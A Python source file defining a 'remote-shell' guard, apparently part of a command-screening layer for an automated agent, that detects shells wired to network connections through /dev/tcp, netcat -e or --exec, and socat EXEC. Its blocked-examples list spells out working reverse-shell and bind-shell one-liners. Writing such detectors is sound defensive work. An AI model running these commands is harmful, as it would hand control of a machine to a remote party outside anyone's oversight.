"""Handing a shell on this machine to whoever is at the other end of a connection."""

from collections.abc import Mapping

from automode.guards.guard import Guard, See, Sight, words
from automode.shell.launchers import SHELLS

_SHELLS = SHELLS | words("cmd powershell pwsh python python3 perl")


def _connected(sight: Sight) -> str | None:
    """`bash -i >& /dev/tcp/HOST/PORT 0>&1`."""
    for redirect in sight.command.redirects:
        if redirect.target.text.startswith(("/dev/tcp/", "/dev/udp/")):
            return "its input and output are a connection"
    return None


def _is_shell(text: str) -> bool:
    return text.split(",", 1)[0].split()[0].rsplit("/", 1)[-1] in _SHELLS if text.strip() else False


def _netcat(sight: Sight) -> str | None:
    texts = sight.texts
    for index, text in enumerate(texts):
        name, equals, value = text.partition("=")
        short = name[:1] == "-" and name[:2] != "--" and name[-1:] in ("e", "c")
        if short or name in ("--exec", "--sh-exec", "--lua-exec"):
            after = texts[index + 1] if index + 1 < len(texts) else ""
            if _is_shell(value if equals else after):
                return "every connection gets a shell"
    return None


def _socat(sight: Sight) -> str | None:
    parts = [text.partition(":") for text in sight.texts]
    kinds = {kind.casefold() for kind, _, _ in parts}
    shell = any(
        kind.casefold() in ("exec", "system") and _is_shell(rest.strip("'\""))
        for kind, _, rest in parts
    )
    outside = any(kind.startswith(("tcp", "udp", "ssl", "openssl", "proxy")) for kind in kinds)
    return "the connection gets a shell" if shell and outside else None


_BY_PROGRAM: Mapping[str, See] = {
    **dict.fromkeys(SHELLS, _connected),
    **dict.fromkeys(words("nc ncat netcat nc.traditional nc.openbsd"), _netcat),
    "socat": _socat,
}


def _sees(sight: Sight) -> str | None:
    return _BY_PROGRAM[sight.name](sight)


REMOTE_SHELL = Guard(
    id="remote-shell",
    reason="this gives a shell on this machine to another one",
    advice="let the person open the connection, with SSH for example",
    about=(
        "Shells whose input and output are a network connection: `/dev/tcp`, `nc -e`, `socat EXEC`."
        " Plain connections and port checks are not its business."
    ),
    sees=_sees,
    programs=frozenset(_BY_PROGRAM),
    remote=True,
    stops=(
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "sh -i < /dev/tcp/10.0.0.1/4444",
        "nc -e /bin/sh 10.0.0.1 4444",
        "ncat -lvp 4444 --exec /bin/bash",
        "nc -lvpe /bin/sh",
        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
        "ncat --sh-exec='bash -i' 10.0.0.1 4444",
        "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
    ),
    passes=(
        "nc -zv localhost 5432",
        "echo > /dev/tcp/localhost/5432",
        "timeout 1 cat < /dev/tcp/localhost/80",
        "bash -i",
        "socat - UNIX-CONNECT:/var/run/docker.sock",
        "socat TCP-LISTEN:8080,fork TCP:localhost:80",
        "nc localhost 8080 < request.txt",
    ),
)
